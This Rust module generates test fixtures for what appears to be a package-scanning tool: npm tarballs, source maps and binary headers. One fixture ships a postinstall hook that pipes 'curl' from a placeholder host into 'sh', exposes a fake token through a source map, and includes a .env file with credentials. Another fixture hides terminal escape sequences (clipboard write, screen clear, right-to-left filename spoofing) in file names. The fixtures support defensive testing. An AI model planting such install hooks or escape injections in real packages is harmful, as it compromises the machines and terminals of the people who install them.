//! Generated package fixtures for tests, examples and benchmarks (packages, source maps, native
//! binary headers): never binary files in git.
//!
//! Shared by `#[path]` inclusion, so it uses only crates every target has (`tar`, `flate2`,
//! `serde_json`).
#![allow(dead_code)]

use std::io::Write as _;
use std::path::{Path, PathBuf};

/// An npm-style `.tgz` of `files` (path bytes, content) under `package/`.
pub fn tgz(files: &[(&[u8], &[u8])]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let mut b = tar::Builder::new(gz);
    for (path, data) in files {
        let mut h = tar::Header::new_gnu();
        let mut full = b"package/".to_vec();
        full.extend_from_slice(path);
        {
            // Written raw: tar's path setters refuse some of the hostile names we need.
            let name = &mut h.as_old_mut().name;
            let n = full.len().min(name.len());
            name[..n].copy_from_slice(&full[..n]);
        }
        if full.len() > 100 {
            h.set_path(String::from_utf8_lossy(&full).as_ref())
                .expect("long fixture paths are UTF-8");
        }
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        h.set_mtime(1_700_000_000);
        h.set_cksum();
        b.append(&h, *data).expect("writing to memory");
    }
    b.into_inner().expect("tar").finish().expect("gzip")
}

/// Writes bytes to `dir/name` and returns the path.
pub fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let p = dir.join(name);
    let mut f = std::fs::File::create(&p).expect("create fixture");
    f.write_all(bytes).expect("write fixture");
    p
}

/// A token-shaped string built at run time, so no scanner mistakes this source for a leak.
pub fn fake_token(prefix: &str, len: usize) -> String {
    let body: String = "Q7fZ2kP9wX4mL8rT1vB6nJ3cH5yD0sGa"
        .chars()
        .cycle()
        .take(len)
        .collect();
    format!("{prefix}{body}")
}

const CLI_V1: &str = "#!/usr/bin/env node\n'use strict';\nconst { greet } = require('./lib/util');\nconsole.log(greet(process.argv[2] || 'world'));\n";
const UTIL: &str = "'use strict';\nexports.greet = (name) => `hello, ${name}`;\n";
const README: &str = "# demo-cli\n\nSays hello.\n\n```sh\nnpx demo-cli you\n```\n";

/// `demo-cli@1.0.0`: a clean release.
pub fn demo_clean() -> Vec<u8> {
    let pkg = r#"{"name":"demo-cli","version":"1.0.0","bin":{"demo-cli":"dist/cli.js"},"files":["dist"],"dependencies":{"kleur":"^4.1.5"}}"#;
    tgz(&[
        (b"package.json", pkg.as_bytes()),
        (b"README.md", README.as_bytes()),
        (b"LICENSE", b"MIT License\n\nCopyright (c) 2026 Demo\n"),
        (b"CHANGELOG.md", b"# 1.0.0\n\n- first release\n"),
        (b"dist/cli.js", CLI_V1.as_bytes()),
        (b"dist/lib/util.js", UTIL.as_bytes()),
    ])
}

/// The TypeScript sources the leaky release embeds in its source map.
pub fn leaked_sources() -> Vec<(&'static str, String)> {
    let token = fake_token("ghp_", 36);
    vec![
        ("webpack://demo-cli/./src/cli.ts", "import { greet } from './lib/util';\nimport { login } from './auth/token';\n\nasync function main(argv: string[]): Promise<void> {\n  await login();\n  console.log(greet(argv[2] ?? 'world'));\n}\n\nmain(process.argv);\n".to_owned()),
        ("webpack://demo-cli/./src/auth/token.ts", format!("// Internal: service account for the release bot.\nconst GITHUB_TOKEN = '{token}';\nconst API = 'https://api.internal.example.com/v2';\n\nexport async function login(): Promise<string> {{\n  const res = await fetch(`${{API}}/session`, {{\n    headers: {{ authorization: `token ${{GITHUB_TOKEN}}` }},\n  }});\n  return res.text();\n}}\n")),
        ("webpack://demo-cli/./src/lib/util.ts", "export const greet = (name: string): string => `hello, ${name}`;\n".to_owned()),
    ]
}

/// `demo-cli@1.1.0`: leaks its sources through `dist/cli.js.map`, ships a `.env`, adds a
/// dependency with a postinstall script, and drops the changelog.
pub fn demo_leaky() -> Vec<u8> {
    let pkg = r#"{"name":"demo-cli","version":"1.1.0","bin":{"demo-cli":"dist/cli.js"},"scripts":{"postinstall":"node scripts/setup.js"},"dependencies":{"kleur":"^4.1.5","left-pad-ng":"git+https://github.com/example/left-pad-ng.git"}}"#;
    let srcs = leaked_sources();
    let names: Vec<String> = srcs
        .iter()
        .map(|(n, _)| serde_json::to_string(n).expect("str"))
        .collect();
    let contents: Vec<String> = srcs
        .iter()
        .map(|(_, c)| serde_json::to_string(c).expect("str"))
        .collect();
    let map = format!(
        r#"{{"version":3,"file":"cli.js","sources":[{}],"sourcesContent":[{}],"names":[],"mappings":"AAAA,SAAS"}}"#,
        names.join(","),
        contents.join(",")
    );
    let cli = "#!/usr/bin/env node\n\"use strict\";var e=require(\"./lib/util\");async function n(){await fetch(\"https://api.internal.example.com/v2/session\")}n().then(()=>console.log(e.greet(process.argv[2]||\"world\")));\n//# sourceMappingURL=cli.js.map\n";
    let env = format!(
        "# local settings\nDATABASE_URL=postgres://release:hunter2@db.internal.example.com:5432/app\nSTRIPE_SECRET_KEY={}\nDEBUG=demo:*\n",
        fake_token("sk_live_", 24)
    );
    let setup = "// runs on every install\nconst { execSync } = require('child_process');\nexecSync('curl -s https://telemetry.example.com/i | sh');\n";
    tgz(&[
        (b"package.json", pkg.as_bytes()),
        (b"README.md", README.as_bytes()),
        (b"LICENSE", b"MIT License\n\nCopyright (c) 2026 Demo\n"),
        (b"dist/cli.js", cli.as_bytes()),
        (b"dist/cli.js.map", map.as_bytes()),
        (b"dist/lib/util.js", UTIL.as_bytes()),
        (b".env", env.as_bytes()),
        (b"scripts/setup.js", setup.as_bytes()),
    ])
}

/// An index source map (`sections`): one section per list of `(source name, content)`, each
/// a regular map with `sourcesContent`, then one section that points elsewhere by `url`.
pub fn index_map(sections: &[&[(&str, &str)]]) -> Vec<u8> {
    let mut list: Vec<serde_json::Value> = sections
        .iter()
        .enumerate()
        .map(|(i, files)| {
            let (names, contents): (Vec<&str>, Vec<&str>) = files.iter().copied().unzip();
            serde_json::json!({
                "offset": { "line": i * 1000, "column": 0 },
                "map": { "version": 3, "sources": names, "sourcesContent": contents,
                         "names": [], "mappings": "AAAA" },
            })
        })
        .collect();
    list.push(serde_json::json!({
        "offset": { "line": sections.len() * 1000, "column": 0 },
        "url": "vendor.js.map",
    }));
    serde_json::to_vec(&serde_json::json!({ "version": 3, "file": "app.js", "sections": list }))
        .expect("an index map serialises")
}

/// A minimal ELF file of type `e_type` (1 object, 2 executable, 3 shared object, 4 core)
/// with the named sections (four bytes of data each) and their name table; ELF64 when `wide`,
/// little-endian when `little`.
pub fn elf(e_type: u16, sections: &[&str], wide: bool, little: bool) -> Vec<u8> {
    let put = |out: &mut Vec<u8>, v: u64, n: usize| {
        let b = if little {
            v.to_le_bytes()
        } else {
            v.to_be_bytes()
        };
        if little {
            out.extend_from_slice(&b[..n]);
        } else {
            out.extend_from_slice(&b[8 - n..]);
        }
    };
    let word = if wide { 8 } else { 4 };
    let (ehsize, shentsize) = if wide { (64usize, 64usize) } else { (52, 40) };
    let mut names = vec![0u8];
    let mut name_offsets = Vec::new();
    for n in sections.iter().copied().chain([".shstrtab"]) {
        name_offsets.push(names.len() as u64);
        names.extend_from_slice(n.as_bytes());
        names.push(0);
    }
    let data_at = ehsize;
    let names_at = data_at + 4 * sections.len();
    let shoff = names_at + names.len();
    let mut out = b"\x7fELF".to_vec();
    out.extend_from_slice(&[if wide { 2 } else { 1 }, if little { 1 } else { 2 }, 1]);
    out.resize(16, 0);
    put(&mut out, u64::from(e_type), 2);
    put(&mut out, 62, 2); // x86-64
    put(&mut out, 1, 4);
    put(&mut out, 0, word); // entry
    put(&mut out, 0, word); // phoff
    put(&mut out, shoff as u64, word);
    put(&mut out, 0, 4); // flags
    put(&mut out, ehsize as u64, 2);
    put(&mut out, 0, 2); // phentsize
    put(&mut out, 0, 2); // phnum
    put(&mut out, shentsize as u64, 2);
    put(&mut out, sections.len() as u64 + 2, 2);
    put(&mut out, sections.len() as u64 + 1, 2); // shstrndx: the last
    for _ in sections {
        out.extend_from_slice(b"DATA");
    }
    out.extend_from_slice(&names);
    let header = |out: &mut Vec<u8>, name: u64, kind: u64, offset: u64, size: u64| {
        put(out, name, 4);
        put(out, kind, 4);
        put(out, 0, word); // flags
        put(out, 0, word); // addr
        put(out, offset, word);
        put(out, size, word);
        put(out, 0, 4); // link
        put(out, 0, 4); // info
        put(out, 1, word); // align
        put(out, 0, word); // entsize
    };
    header(&mut out, 0, 0, 0, 0);
    for (i, at) in name_offsets.iter().take(sections.len()).enumerate() {
        header(&mut out, *at, 1, (data_at + 4 * i) as u64, 4);
    }
    header(
        &mut out,
        name_offsets[sections.len()],
        3,
        names_at as u64,
        names.len() as u64,
    );
    out
}

/// A minimal little-endian Mach-O 64 file of `filetype` (1 object, 2 executable, 4 core,
/// 6 dylib, 10 dSYM) with one `LC_SEGMENT_64` per named segment, each 16 bytes in the file.
pub fn macho(filetype: u32, segments: &[&str]) -> Vec<u8> {
    let mut out = vec![0xcf, 0xfa, 0xed, 0xfe];
    for v in [
        0x0100_000c,
        0,
        filetype,
        segments.len() as u32,
        72 * segments.len() as u32,
        0,
        0,
    ] {
        out.extend_from_slice(&u32::to_le_bytes(v));
    }
    for name in segments {
        out.extend_from_slice(&0x19u32.to_le_bytes());
        out.extend_from_slice(&72u32.to_le_bytes());
        let mut seg = [0u8; 16];
        seg[..name.len()].copy_from_slice(name.as_bytes());
        out.extend_from_slice(&seg);
        for v in [0u64, 16, 0, 16] {
            out.extend_from_slice(&v.to_le_bytes()); // vmaddr, vmsize, fileoff, filesize
        }
        out.extend_from_slice(&[0u8; 16]); // maxprot, initprot, nsects, flags
    }
    out
}

/// A universal (fat) Mach-O holding `slices`.
pub fn fat_macho(slices: &[Vec<u8>]) -> Vec<u8> {
    let mut out = vec![0xca, 0xfe, 0xba, 0xbe];
    out.extend_from_slice(&(slices.len() as u32).to_be_bytes());
    let mut at = 8 + 20 * slices.len();
    for s in slices {
        for v in [0x0100_000c, 0, at as u32, s.len() as u32, 0] {
            out.extend_from_slice(&u32::to_be_bytes(v));
        }
        at += s.len();
    }
    for s in slices {
        out.extend_from_slice(s);
    }
    out
}

/// The first bytes of a Windows minidump.
pub fn minidump() -> Vec<u8> {
    let mut out = b"MDMP\x93\xa7\0\0".to_vec();
    out.resize(64, 0);
    out
}

/// The first bytes of a PDB (MSF 7.00).
pub fn pdb() -> Vec<u8> {
    let mut out = b"Microsoft C/C++ MSF 7.00\r\n\x1aDS\0\0\0".to_vec();
    out.resize(64, 0);
    out
}

/// A package whose names and contents carry terminal escape sequences.
pub fn hostile() -> Vec<u8> {
    let content = "line one\n\x1b[2J\x1b[Hcleared?\n\x1b]52;c;cHduZWQ=\x07clipboard?\n\x1b]0;pwned\x07title?\nabc\u{202e}txt.exe\nend of evil\n";
    let padding = "// padding so this file sorts first\n".repeat(40);
    let body = format!("{content}{padding}");
    tgz(&[
        (b"package.json", br#"{"name":"evil","version":"6.6.6"}"#),
        ("evil\x1b[2J.js".as_bytes(), body.as_bytes()),
        ("clip\x1b]52;c;cHduZWQ=\x07.js".as_bytes(), b"x\n"),
        ("title\x1b]0;pwned\x07.js".as_bytes(), b"y\n"),
        ("gnp\u{202e}js.png".as_bytes(), b"z\n"),
    ])
}

/// A package of `n` small files in nested folders.
pub fn many_files(n: usize) -> Vec<u8> {
    let names: Vec<String> = (0..n)
        .map(|i| format!("lib/m{}/d{}/f{i}.js", i % 100, (i / 100) % 10))
        .collect();
    let files: Vec<(&[u8], &[u8])> = std::iter::once((
        &b"package.json"[..],
        &br#"{"name":"many","version":"1.0.0"}"#[..],
    ))
    .chain(
        names
            .iter()
            .map(|n| (n.as_bytes(), &b"module.exports = 1;\n"[..])),
    )
    .collect();
    tgz(&files)
}

/// A package with one minified file of `size` bytes on a single line.
pub fn one_long_line(size: usize) -> Vec<u8> {
    minified(size, usize::MAX)
}

/// A package with one minified file of `size` bytes, a newline every `line` bytes or so.
pub fn minified(size: usize, line: usize) -> Vec<u8> {
    let unit = "var a=function(b){return b*2};";
    let mut s = String::with_capacity(size + unit.len());
    let mut since = 0;
    while s.len() < size {
        s.push_str(unit);
        since += unit.len();
        if since >= line {
            s.push('\n');
            since = 0;
        }
    }
    s.truncate(size);
    tgz(&[
        (b"package.json", br#"{"name":"minified","version":"1.0.0"}"#),
        (b"dist/bundle.min.js", s.as_bytes()),
    ])
}
